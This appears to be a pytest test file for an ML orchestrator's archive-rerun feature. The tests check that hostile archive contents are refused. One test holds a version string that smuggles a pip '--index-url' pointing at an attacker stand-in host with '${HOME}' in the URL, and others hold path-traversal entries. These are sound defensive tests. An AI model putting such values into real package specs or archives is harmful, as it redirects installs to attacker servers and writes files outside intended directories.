"""Archives may set settings and versions of a run, and nothing on this machine."""

from pathlib import Path
from typing import Any

import pytest

from orchestrator.errors import ConfigError
from orchestrator.reproduction import exported_run, rerun, run_archive
from orchestrator.schema.packages import Installed
from tests import builders
from tests.unit.conftest import Cli
from tests.unit.reproduction import cases


def test_run_is_repeated_from_the_start_with_resolved_settings() -> None:
    config = cases.TRAINED.config.model_copy(update={"precision": "bfloat16", "resume": "/shared/x", "restarts": 2})
    old = cases.loaded(results=cases.TRAINED.model_copy(update={"config": config}))
    settings = rerun.settings(old)
    assert (settings.precision, settings.resume, settings.restarts, settings.steps) == ("bfloat16", None, 0, None)


@pytest.mark.parametrize("ended", ["max-time", "terminated"])
def test_run_that_ended_early_is_repeated_for_as_many_steps(ended: Any) -> None:
    old = cases.loaded(results=cases.TRAINED.model_copy(update={"ended": ended}))
    assert rerun.settings(old).steps == 8


@pytest.mark.parametrize("epochs", [[], None])
def test_run_without_an_evaluated_epoch_is_refused(epochs: Any) -> None:
    stopped = cases.TRAINED.model_copy(update={"ended": "max-time", "epochs": epochs})
    with pytest.raises(ConfigError, match="ended before an epoch was evaluated") as caught:
        rerun.settings(cases.loaded(results=stopped if epochs is not None else None))
    assert "`orchestrator train resnet20 --dataset mnist" in caught.value.hint
    assert "--max-time" not in caught.value.hint


def test_run_without_an_evaluated_epoch_is_refused_before_a_cluster_is_needed(cli: Cli, tmp_path: Path) -> None:
    stopped = cases.TRAINED.model_copy(update={"ended": "terminated", "epochs": []}).model_dump_json()
    finished = cli("rerun", str(changed(tmp_path, results_json=stopped.encode())), "--cluster", "other")
    assert (finished.returncode, finished.stdout) == (2, "")
    assert "there is nothing to compare" in finished.stderr


@pytest.mark.parametrize("changes", [{"model": "unknown"}, {"dataset": "unknown"}])
def test_unknown_model_or_data_set_is_refused(changes: dict[str, str]) -> None:
    config = cases.TRAINED.config.model_copy(update=changes)
    with pytest.raises(ConfigError, match="'unknown' is unknown"):
        rerun.settings(cases.loaded(results=None, config=config))


def test_launch_settings_are_repeated() -> None:
    options = rerun.options(cases.loaded(run=builders.run(np=3, controller="mpi", autotune=True)))
    assert options == {"launch.np": 3, "launch.controller": "mpi", "launch.cycle_time": 5.0,
                       "launch.fusion_threshold": None, "launch.autotune": True, "launch.parameter_servers": None,
                       "train.engine": "ours"}  # fmt: skip


def test_packages_are_exact_versions_without_options_of_pip() -> None:
    overlay = {"einops": "0.8.0", "odd": "1.0 --index-url https://evil.example.org/${HOME}"}
    versions = rerun.versions(cases.loaded(packages=Installed(image={}, overlay=overlay)))
    assert versions is not None
    assert versions.lines == ["einops==0.8.0"]
    assert rerun.versions(cases.loaded(packages=Installed(image={}))) is None


def test_variables_must_be_given_again(tmp_path: Path) -> None:
    (tmp_path / "train.py").write_text("print()")
    state_dir, run = cases.scripted(tmp_path, "python", str(tmp_path / "train.py"), variables=["TOKEN"])
    old = exported_run.load(state_dir.runs / run.id)
    with pytest.raises(ConfigError, match=r"values are not in the archive: \['TOKEN'\]") as caught:
        rerun.require_variables(old, {})
    assert "--env NAME" in caught.value.hint
    rerun.require_variables(old, {"TOKEN": "x"})


def test_variables_of_a_training_run_must_be_given_again(cli: Cli, tmp_path: Path) -> None:
    provenance = cases.loaded().provenance.model_copy(update={"variables": ["ONEDNN_MAX_CPU_ISA"]})
    archive = changed(tmp_path, provenance_json=provenance.model_dump_json().encode())
    finished = cli("rerun", str(archive))
    assert (finished.returncode, finished.stdout) == (2, "")
    assert "values are not in the archive: ['ONEDNN_MAX_CPU_ISA']" in " ".join(finished.stderr.split())
    given = cli("rerun", str(archive), "--env", "ONEDNN_MAX_CPU_ISA=AVX2", "--cluster", "other")
    assert "cluster 'other' is not deployed" in given.stderr


def test_number_of_ranks_must_be_positive(cli: Cli, tmp_path: Path) -> None:
    finished = cli("rerun", str(changed(tmp_path)), "--np", "0")
    assert (finished.returncode, finished.stdout) == (2, "")
    assert "launch.np: 0: must be greater than or equal to 1" in finished.stderr


def test_directories_without_files_are_created_again(cli: Cli, tmp_path: Path) -> None:
    (tmp_path / "code" / "checkpoints").mkdir(parents=True)
    (tmp_path / "code" / "train.py").touch()
    (tmp_path / "code" / "odd\udcff").mkdir()  # no UTF-8
    cases.scripted(tmp_path / "code", "python", str(tmp_path / "code" / "train.py"))
    assert cli("export", "-o", "run.tar.gz").returncode == 0
    with run_archive.unpacked(tmp_path / "run.tar.gz") as directory:
        code = rerun.source(exported_run.load(directory))
    assert list(code.files) == ["train.py"]
    assert list(code.directories) == ["checkpoints"]


def test_script_that_is_a_program_can_be_executed_again(cli: Cli, tmp_path: Path) -> None:
    script = tmp_path / "code" / "train.sh"
    script.parent.mkdir()
    script.write_text("#!/bin/sh\n")
    script.chmod(0o755)
    (tmp_path / "code" / "data.txt").touch()
    cases.scripted(script.parent, str(script))
    assert cli("export", "-o", "run.tar.gz").returncode == 0
    with run_archive.unpacked(tmp_path / "run.tar.gz") as directory:
        files = rerun.source(exported_run.load(directory)).files
        executable = {name: bool(path.stat().st_mode & 0o100) for name, path in files.items()}
    assert executable == {"data.txt": False, "train.sh": True}


def test_script_without_its_code_is_refused() -> None:
    with pytest.raises(ConfigError, match="its code is not in the archive"):
        rerun.source(cases.loaded())


def changed(tmp_path: Path, **files: bytes) -> Path:
    """Write an archive of a training run with other contents of some files, and correct checksums."""
    state_dir, run = cases.trained()
    directory = state_dir.runs / run.id
    names = ("run.json", "config.json", "results.json", "provenance.json", "packages.json")
    contents = {name: (directory / name).read_bytes() for name in names}
    run_archive.write({**contents, **{n.replace("_", "."): c for n, c in files.items()}}, tmp_path / "run.tar.gz", 1)
    return tmp_path / "run.tar.gz"


@pytest.mark.parametrize(
    ("files", "problem"),
    [
        ({"run_json": b"[]"}, "run.json: "),
        ({"run_json": b"[" * 100_000}, "run.json: nested more than 64 levels deep"),
        ({"config_json": b'{"run": "x"}'}, "config.json: model: Field required"),
        ({"results_json": b'{"epochs": NaN}'}, "results.json: 'NaN' is not a finite number"),
        ({"provenance_json": b'{"nodes": 7}'}, "provenance.json: nodes: 7"),
        ({"provenance_json": b'{"directories": ["src/../../x"]}'}, "provenance.json: directories"),
        ({"provenance_json": b'{"directories": ["/x"]}'}, "provenance.json: directories"),
        ({"packages_json": b'{"image": {"../x": "1"}}'}, "packages.json: image"),
    ],
)
def test_hostile_files_end_with_one_message(cli: Cli, tmp_path: Path, files: dict[str, bytes], problem: str) -> None:
    finished = cli("rerun", str(changed(tmp_path, **files)))
    assert (finished.returncode, finished.stdout) == (2, "")
    assert problem in " ".join(finished.stderr.split())
    assert "Traceback" not in finished.stderr


def test_archive_without_a_record_is_named(cli: Cli, tmp_path: Path) -> None:
    run_archive.write({"log": b""}, tmp_path / "run.tar.gz", 1)
    finished = cli("rerun", "run.tar.gz")
    assert finished.returncode == 2
    assert "error: run.tar.gz: run.json: is missing" in " ".join(finished.stderr.split())


def test_code_of_an_archive_needs_confirmation(cli: Cli, tmp_path: Path) -> None:
    (tmp_path / "code").mkdir()
    (tmp_path / "code" / "train.py").write_text("print()")
    cases.scripted(tmp_path / "code", "python", str(tmp_path / "code" / "train.py"))
    assert cli("export", "-o", "run.tar.gz").returncode == 0
    finished = cli("rerun", "run.tar.gz")
    assert finished.returncode == 1
    assert "the archive runs its own code on the cluster" in finished.stderr
    assert "error: nothing was started: the answer to 'run it?' was not yes\n--yes answers yes" in finished.stderr
